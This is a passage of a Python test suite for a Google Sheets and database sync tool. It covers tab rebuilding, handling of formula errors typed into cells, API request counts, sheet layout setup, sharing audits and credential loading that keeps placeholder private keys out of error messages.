    world.cycle()

    def shown() -> list[dict[str, str]]:  # a rebuilt row shows its phone formatted
        rows = [{**r, "Phone": normalize_phone(r["Phone"]) or ""} for r in world.rows("ali")]
        return sorted(rows, key=lambda r: r["Customer #"])

    before = shown()
    world.backend.delete_tab(world.source("ali"), "Customers")
    world.cycle()  # quarantined (missing tab): nothing archived

    changes = service.init(world.config, world.engine, world.backend).changes

    assert "added tab Customers" in changes
    assert f"rebuilt {world.source('ali')} from the database: 3 customer(s)" in changes
    assert shown() == before
    report = world.cycle()
    assert report.trackings_archived == 0
    with world.session() as s:
        assert all(t.active for t in s.execute(select(Tracking)).scalars())
        assert s.execute(select(Conflict).where(Conflict.status == "open")).first() is None
    assert world.cycle().cells_written == 0


def test_formula_errors_typed_in_a_google_sheet_never_become_data(
    world: World, emu: Emulator
) -> None:
    world.type_rows("ali", [{**AHMED, "Email": "ahmed@example.com"}])
    world.cycle()
    ali = sid(world, "ali")
    header = world.grid("ali")[0]

    def cell(name: str, row: int) -> str:
        return f"Customers!{column_letter(header.index(name))}{row}"

    # Sheets evaluates these and shows #NAME? and #DIV/0!, which the API reads back as text
    emu.set_values(ali, cell("Email", 2), [["=VLOOKUP(A2,Old!A:B,2,FALSE)"]], "USER_ENTERED")
    emu.set_values(ali, cell("Notes", 2), [["=Old!C7"]], "USER_ENTERED")
    emu.set_values(ali, cell("Name", 3), [["=1/0"]], "USER_ENTERED")
    emu.set_values(ali, cell("Phone", 3), [["0111 222 3344"]], "RAW")

    world.cycle()

    with world.session() as s:
        found = {c.phone: c for c in s.execute(select(Customer)).scalars()}
        notes = {t.customer.phone: t.notes for t in s.execute(select(Tracking)).scalars()}
    assert set(found) == {"+201001234567", "+201112223344"}
    assert found["+201001234567"].email == "ahmed@example.com"
    assert found["+201112223344"].name is None
    assert notes["+201001234567"] == "a notes"
    ahmed, fatima = world.rows("ali")
    assert "Email: shows the formula error #NAME?" in ahmed["Sync notes"]
    assert "Notes: shows the formula error #NAME?" in ahmed["Sync notes"]
    assert "Name: shows the formula error #DIV/0!" in fatima["Sync notes"]
    assert ahmed["Email"] == "#NAME?"  # left as the agent has it
    formulas = emu.get_values(ali, cell("Email", 2), "FORMULA")
    assert formulas == [["=VLOOKUP(A2,Old!A:B,2,FALSE)"]]
    assert world.cycle().cells_written == 0


# ---------------------------------------------------------------------------------------------
# request economy
# ---------------------------------------------------------------------------------------------


def _counted(emu: Emulator, world: World) -> dict[str, int]:
    emu.reset_counts()
    world.cycle()
    return dict(emu.counts)


def test_request_counts_of_cold_idle_and_edit_cycles(world: World, emu: Emulator) -> None:
    world.type_rows("ali", [AHMED_ALI, FATIMA])
    world.type_rows("sara", [AHMED_SARA])
    cold = _counted(emu, world)
    idle = _counted(emu, world)
    world.edit("ali", {"Name": "Fatima Ali"}, {"Status": "Negotiating"})
    edit = _counted(emu, world)
    again = _counted(emu, world)
    print(f"\ncold {cold}\nidle {idle}\nedit {edit}\nidle {again}")

    def sheets(counts: dict[str, int]) -> dict[str, int]:
        return {k: v for k, v in counts.items() if k.startswith("sheets.")}

    # cold: 3 spreadsheets changed; each is read once and written once, re-validated once
    assert sheets(cold) == {"sheets.values.batchGet": 6, "sheets.values.batchUpdate": 3}
    # idle: no Sheets request at all; one Drive changes.list tells nothing changed
    assert sheets(idle) == sheets(again) == {}
    assert idle == again == {"drive.changes.list": 1}
    # edit: Ali's sheet read once (nothing to write back to it); the master is not read
    # whole: the changed rows' tabs are read once (Google has no compare-and-set, so the
    # cells are checked against them) and written once
    assert sheets(edit) == {"sheets.values.batchGet": 2, "sheets.values.batchUpdate": 1}
    # never layout work, never a request per row or cell
    for counts in (cold, idle, edit, again):
        assert not {"sheets.spreadsheets.batchUpdate", "sheets.values.update"} & counts.keys()


def test_without_revalidation_a_changed_spreadsheet_costs_one_read(
    engine: Any, emu: Emulator, fake: FakeTime
) -> None:
    world = google_world(engine, emu, fake, revalidate=False)
    world.type_rows("ali", [AHMED_ALI, FATIMA])
    world.type_rows("sara", [AHMED_SARA])
    cold = _counted(emu, world)
    world.edit("ali", {"Name": "Fatima Ali"}, {"Status": "Negotiating"})
    edit = _counted(emu, world)
    assert cold["sheets.values.batchGet"] == 3 and cold["sheets.values.batchUpdate"] == 3
    assert edit["sheets.values.batchGet"] == 2 and edit["sheets.values.batchUpdate"] == 1


# ---------------------------------------------------------------------------------------------
# set-up (init) and check
# ---------------------------------------------------------------------------------------------


def read_tab(emu: Emulator, spreadsheet: str, title: str, **kw: Any) -> dict[str, Any]:
    data = emu.spreadsheet(spreadsheet, **kw)
    return next(s for s in data["sheets"] if s["properties"]["title"] == title)


def test_init_sets_up_each_agent_spreadsheet(world: World, emu: Emulator) -> None:
    ali = sid(world, "ali")
    customers = read_tab(emu, ali, "Customers", grid_data=True)
    assert customers["properties"]["gridProperties"]["frozenRowCount"] == 1
    rows = customers["data"][0]["rowData"]
    header = [c["formattedValue"] for c in rows[0]["values"]]
    assert header[:3] == ["Customer #", "Name", "Phone"] and header[-1] == "Sync notes"
    probe = rows[1]["values"]
    phone = probe[header.index("Phone")]
    assert phone["userEnteredFormat"]["numberFormat"]["type"] == "TEXT"
    status = probe[header.index("Status")]["dataValidation"]["condition"]
    assert status["type"] == "ONE_OF_LIST"
    assert [v["userEnteredValue"] for v in status["values"]][:2] == ["Prospect", "Contacted"]
    for name in ("Degree", "Interest"):
        assert probe[header.index(name)]["dataValidation"]["condition"]["type"] == "ONE_OF_LIST"
    protected = {
        header[r["range"]["startColumnIndex"]]
        for r in customers.get("protectedRanges", [])
        if not r.get("warningOnly")
    }
    assert protected == {"Customer #", "Also tracked by", "Sync notes", "Commission %"}
    # a filter on the header; header notes on the shared columns and on the admin's column
    filtered = customers["basicFilter"]["range"]
    assert filtered == {"sheetId": customers["properties"]["sheetId"], "startRowIndex": 0}
    notes = {header[i]: c.get("note") for i, c in enumerate(rows[0]["values"])}
    assert notes["Email"] == agent_sheet.SHARED_NOTE and notes["Name"] == agent_sheet.SHARED_NOTE
    assert notes["Commission %"] == agent_sheet.ADMIN_NOTE and notes["Notes"] is None
    # columns sized to what they typically hold
    sizes = [m["pixelSize"] for m in customers["data"][0]["columnMetadata"]]
    assert sizes[header.index("Notes")] > sizes[header.index("Phone")] > 100
    assert sizes[header.index("Status")] == (len("Status") + 4) * 7 + 10
    # a phone typed with a leading zero keeps it (the column is plain text)
    emu.set_values(ali, "Customers!C2", [["0100 123 4567"], ["01001234567"]], "USER_ENTERED")
    assert emu.get_values(ali, "Customers!C2:C3", "UNFORMATTED_VALUE") == [
        ["0100 123 4567"],
        ["01001234567"],
    ]
    master = emu.spreadsheet(world.config.master.spreadsheet)
    titles = [s["properties"]["title"] for s in master["sheets"]]
    assert {"Customers", "Tracking", "Follow-ups", "Conflicts", "Commission", "Sync log"} <= set(
        titles
    )


def test_init_notes_the_resolution_words_on_the_master_and_repairs_a_removed_note(
    world: World, emu: Emulator
) -> None:
    master = world.config.master.spreadsheet
    conflicts = read_tab(emu, master, "Conflicts", grid_data=True)
    header = conflicts["data"][0]["rowData"][0]["values"]
    col = [c.get("formattedValue") for c in header].index(RESOLUTION)
    assert header[col]["note"] == RESOLUTION_HELP  # set by init (the world's set-up)
    # the words as a dropdown that warns, and the conflicts not decided yet shaded
    probe = conflicts["data"][0]["rowData"][1]["values"][col]["dataValidation"]
    assert [v["userEnteredValue"] for v in probe["condition"]["values"]] == [
        "keep",
        "accept",
        "dismiss",
        "merge",
    ]
    assert probe["strict"] is False
    (rule,) = conflicts["conditionalFormats"]
    letter = get_column_letter(col + 1)
    formula = rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"]
    assert formula == f"=AND(LEN($A2)>0,LEN(TRIM(${letter}2))=0)"
    # the columns the admin may edit say so
    customers = read_tab(emu, master, "Customers", grid_data=True)
    notes = {
        c.get("formattedValue"): c.get("note") for c in customers["data"][0]["rowData"][0]["values"]
    }
    assert notes["Email"] == EDIT_NOTE and notes["Customer #"] is None
    colors = {
        c.get("formattedValue"): c.get("userEnteredFormat", {}).get("backgroundColor")
        for c in customers["data"][0]["rowData"][0]["values"]
    }
    green = {
        k: int(EDITABLE_COLOR[i : i + 2], 16) / 255
        for k, i in (("red", 0), ("green", 2), ("blue", 4))
    }
    assert colors["Email"] == green and colors["Customer #"] is None

    emu.batch_update(
        master,
        [
            {
                "updateCells": {
                    "range": {
                        "sheetId": conflicts["properties"]["sheetId"],
                        "startRowIndex": 0,
                        "endRowIndex": 1,
                        "startColumnIndex": col,
                        "endColumnIndex": col + 1,
                    },
                    "rows": [{"values": [{}]}],
                    "fields": "note",
                }
            }
        ],
    )
    drift = world.backend.ensure_layout(
        world.master,
        master_headers(world.config.sync.timezone),
        notes=MASTER_NOTES,
        dry_run=True,
    )
    assert drift == [f"noted Conflicts/{RESOLUTION}"]
    assert service.init(world.config, world.engine, world.backend).changes == drift
    header = read_tab(emu, master, "Conflicts", grid_data=True)["data"][0]["rowData"][0]["values"]
    assert header[col]["note"] == RESOLUTION_HELP


def test_layout_is_idempotent_and_drift_is_found_and_fixed(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    layout = service.agent_layout()
    args = {k: layout[k] for k in ("text_columns", "dropdowns", "protected")}
    emu.reset_counts()
    assert world.backend.ensure_layout(source, layout["tabs"], **args) == []
    assert emu.counts == {"sheets.spreadsheets.get": 2}  # nothing written when nothing drifted
    ali = sid(world, "ali")
    customers = read_tab(emu, ali, "Customers")
    sheet_id = customers["properties"]["sheetId"]
    doomed = customers["protectedRanges"][0]
    emu.batch_update(
        ali,
        [
            {"deleteProtectedRange": {"protectedRangeId": doomed["protectedRangeId"]}},
            {"setDataValidation": {"range": {"sheetId": sheet_id, "startRowIndex": 1}}},
        ],
    )
    drift = world.backend.ensure_layout(source, layout["tabs"], dry_run=True, **args)
    assert any(d.startswith("protected Customers/") for d in drift)
    assert {d for d in drift if d.startswith("set dropdown")} == {
        "set dropdown of Customers/Status",
        "set dropdown of Customers/Interest",
        "set dropdown of Customers/Degree",
        "set dropdown of Customers/Gender",
    }
    assert world.backend.ensure_layout(source, layout["tabs"], **args) == drift
    assert world.backend.ensure_layout(source, layout["tabs"], **args) == []


def test_layout_adds_missing_columns_without_touching_data(world: World, emu: Emulator) -> None:
    source = world.source("ali")
    world.backend.set_tab(
        source, "Customers", [["Name", "رقم الجوال", "Notes"], ["Ahmed", "0100", "keep"]]
    )
    layout = service.agent_layout()
    changes = world.backend.ensure_layout(
        source,
        layout["tabs"],
        text_columns=layout["text_columns"],
        aliases={"Phone": ["رقم الجوال"]},
        widths=layout["widths"],
    )
    assert "added column Customer # to Customers" in changes
    assert "added column Phone to Customers" not in changes  # the alias counts
    grid = world.backend.get_tab(source, "Customers")
    assert grid[1] == ["Ahmed", "0100", "keep"]
    assert grid[0][:3] == ["Name", "رقم الجوال", "Notes"] and "Customer #" in grid[0]
    # a column added is sized to what it holds
    customers = read_tab(emu, sid(world, "ali"), "Customers", grid_data=True)
    sizes = [m["pixelSize"] for m in customers["data"][0]["columnMetadata"]]
    assert sizes[grid[0].index("Customer #")] == agent_sheet.COLUMN_WIDTHS["Customer #"] * 7 + 10


def _config_file(tmp_path: Path, world: World, **google: Any) -> Path:
    cfg = world.config
    lines = [
        "[database]",
        f'url = "sqlite:///{tmp_path / "cli.db"}"',
        "[sync]",
        'backend = "google"',
        "[google]",
        f'endpoint = "{cfg.google.endpoint}"',
        f'service_account_email = "{cfg.google.service_account_email}"',
        *(f"{k} = {json.dumps(v)}" for k, v in google.items()),
        "[master]",
        f'spreadsheet = "{cfg.master.spreadsheet}"',
    ]
    for agent in cfg.agents:
        lines += [
            "[[agents]]",
            f'key = "{agent.key}"',
            f'name = "{agent.name}"',
            f'email = "{agent.email}"',
            f'spreadsheet = "{agent.spreadsheet}"',
        ]
    path = tmp_path / "sheetsync.toml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_check_reports_access_drift_and_every_unwanted_share(
    world: World, emu: Emulator, tmp_path: Path
) -> None:
    ali, sara = sid(world, "ali"), sid(world, "sara")
    share(emu, ali, "outsider@gmail.com", "reader")
    emu.call("drive.permissions.create", {"id": sara}, body={"type": "anyone", "role": "reader"})
    share(emu, world.config.master.spreadsheet, "ali@company.com", "reader")  # an agent!
    share(emu, world.config.master.spreadsheet, "boss@company.com", "writer")  # an admin
    world.backend.delete_tab(world.source("sara"), "Follow-ups")
    config = config_from_dict(
        {
            **world.config.model_dump(exclude={"base_dir"}),
            "google": {**world.config.google.model_dump(), "admins": ["boss@company.com"]},
        },
        base_dir=tmp_path,
    )
    report = service.check(config, world.backend).as_dict()
    by = {s["source"]: s for s in report["sources"]}
    assert by["agent ali"]["sharing"] == ["shared with outsider@gmail.com (reader)"]
    assert by["agent ali"]["drift"] == [] and by["agent ali"]["access"] == "ok"
    assert by["agent sara"]["sharing"] == ["anyone with the link can open it (reader)"]
    assert by["agent sara"]["drift"] == ["tab Follow-ups is missing"]
    assert by["master"]["sharing"] == ["shared with ali@company.com (reader)"]
    assert report["problems"] == 4 and report["identity"] == "emulator@sheetsync.local"

    from typer.testing import CliRunner

    from sync.cli import app

    path = _config_file(tmp_path, world)
    result = CliRunner().invoke(app, ["--config", str(path), "check", "--json"])
    assert result.exit_code == 1, result.output
    assert json.loads(result.output)["problems"] == 5  # no admins configured: boss too


def test_check_reports_a_tab_per_agent_layout_and_a_missing_spreadsheet(
    emu: Emulator, tmp_path: Path
) -> None:
    shared = emu.create_spreadsheet("everyone")
    master = emu.create_spreadsheet("master")
    config = config_from_dict(
        {
            "sync": {"backend": "google"},
            "google": {"endpoint": emu.url, "service_account_email": emu.store.owner_email},
            "master": {"spreadsheet": master},
            "agents": [
                {
                    "key": "ali",
                    "name": "Ali",
                    "email": "ali@company.com",
                    "spreadsheet": shared,
                    "tabs": {"Customers": "Ali", "Follow-ups": "Ali follow-ups"},
                },
                {
                    "key": "sara",
                    "name": "Sara",
                    "email": "sara@company.com",
                    "spreadsheet": shared,
                    "tabs": {"Customers": "Sara", "Follow-ups": "Sara follow-ups"},
                },
                {"key": "nour", "name": "Nour", "spreadsheet": "1Missing"},
            ],
        },
        base_dir=tmp_path,
    )
    backend = backend_from_config(config)
    report = service.check(config, backend).as_dict()
    assert len(report["layout"]) == 1 and "not private" in report["layout"][0]
    by = {s["source"]: s for s in report["sources"]}
    assert "not found" in by["agent nour"]["access"].lower()
    # both agents' tabs live side by side in one spreadsheet, each its own source
    layout = service.agent_layout()
    for key in ("ali", "sara"):
        source = config.agent_source(next(a for a in config.agents if a.key == key))
        assert source == f"{shared}#{key}"
        backend.ensure_layout(source, layout["tabs"])
    titles = {s["properties"]["title"] for s in emu.spreadsheet(shared)["sheets"]}
    assert {"Ali", "Ali follow-ups", "Ali check", "Sara", "Sara follow-ups", "Sara check"} <= (
        titles
    )
    snapshot = backend.read(f"{shared}#sara")
    assert set(snapshot.tabs) == {"Customers", "Follow-ups", "Check"}


# ---------------------------------------------------------------------------------------------
# configuration and credentials
# ---------------------------------------------------------------------------------------------


def _google_config(tmp_path: Path, **google: Any) -> Any:
    return config_from_dict(
        {
            "sync": {"backend": "google"},
            "google": google,
            "master": {"spreadsheet": "1Master"},
            "agents": [{"key": "ali", "name": "Ali", "spreadsheet": "1Ali"}],
        },
        base_dir=tmp_path,
    )


SECRET = "-----BEGIN PRIVATE KEY-----\nTOPSECRETKEYMATERIAL\n-----END PRIVATE KEY-----\n"


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("{not json", "is not valid JSON"),
        (json.dumps({"private_key": SECRET}), "missing type, client_email, token_uri"),
        (
            json.dumps(
                {
                    "type": "service_account",
                    "client_email": "x@y",
                    "private_key": SECRET,
                    "token_uri": "https://oauth2.googleapis.com/token",
                }
            ),
            "the private key of this service-account key cannot be loaded",
        ),
    ],
)
def test_bad_credentials_name_the_file_never_its_content(
    tmp_path: Path, content: str, expected: str
) -> None:
    path = tmp_path / "sa.json"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        backend_from_config(_google_config(tmp_path, credentials_file="sa.json"))
    text = str(info.value)
    assert str(path) in text and expected in text
    assert "TOPSECRET" not in text and "PRIVATE KEY" not in text
    import traceback

    shown = "".join(traceback.format_exception(info.value))  # what a log would print
    assert "TOPSECRET" not in shown and "PRIVATE KEY" not in shown


def test_credentials_from_an_environment_variable(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="environment variable SA_JSON is not set"):
        load_credentials(credentials_env="SA_JSON", environ={})
    with pytest.raises(ConfigError) as info:
        load_credentials(
            credentials_env="SA_JSON", environ={"SA_JSON": json.dumps({"private_key": SECRET})}
        )
    assert "environment variable SA_JSON" in str(info.value) and "TOPSECRET" not in str(info.value)
    info_ok = json.loads(_service_account_file(tmp_path).read_text())
    creds = load_credentials(credentials_env="SA_JSON", environ={"SA_JSON": json.dumps(info_ok)})
    assert creds.service_account_email == "sync@p.iam.gserviceaccount.com"


def test_oauth_user_credentials_and_a_missing_file(tmp_path: Path) -> None:
    token = tmp_path / "token.json"
    token.write_text(
        json.dumps({"client_id": "c", "client_secret": "TOPSECRET", "refresh_token": "TOPSECRET"}),
        encoding="utf-8",
    )
    creds = load_credentials(oauth_token_file=token)
    assert creds.refresh_token == "TOPSECRET"
    with pytest.raises(ConfigError, match="does not exist"):
        backend_from_config(_google_config(tmp_path, oauth_token_file="nope.json"))
    with pytest.raises(ConfigError, match="no Google credentials configured"):
        backend_from_config(_google_config(tmp_path))


def test_google_config_validation(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"agents\[0\] \(ali\)\.spreadsheet: Field required"):
        config_from_dict(
            {
                "sync": {"backend": "google"},
                "master": {"spreadsheet": "1M"},
                "agents": [{"key": "ali", "name": "Ali", "workbook": "a.xlsx"}],
            },
            base_dir=tmp_path,
        )
    with pytest.raises(ConfigError, match="set only one of credentials_file, credentials_env"):
        _google_config(tmp_path, credentials_file="a.json", credentials_env="X")
    with pytest.raises(ConfigError, match="is the master spreadsheet"):
        config_from_dict(
            {
                "sync": {"backend": "google"},
                "master": {"spreadsheet": "1M"},
                "agents": [{"key": "ali", "name": "Ali", "spreadsheet": "1M"}],
            },
            base_dir=tmp_path,
        )
    config = _google_config(tmp_path, endpoint="http://127.0.0.1:1")
    assert config.agent_source(config.agents[0]) == "1Ali" and config.master_source() == "1Master"
    assert isinstance(service.make_backend(config), GoogleBackend)


def test_service_account_credentials_refresh_through_the_emulator(
    engine: Any, emu: Emulator, fake: FakeTime, tmp_path: Path
) -> None:
    world = google_world(engine, emu, fake, credentials_file=str(_service_account_file(tmp_path)))
    assert isinstance(world.backend, EmulatedGoogleBackend)
    world.type_rows("ali", [AHMED_ALI])
    world.cycle()
    assert emu.counts["oauth.token"] == 1
    assert world.rows("ali")[0]["Customer #"].startswith("CUS-")
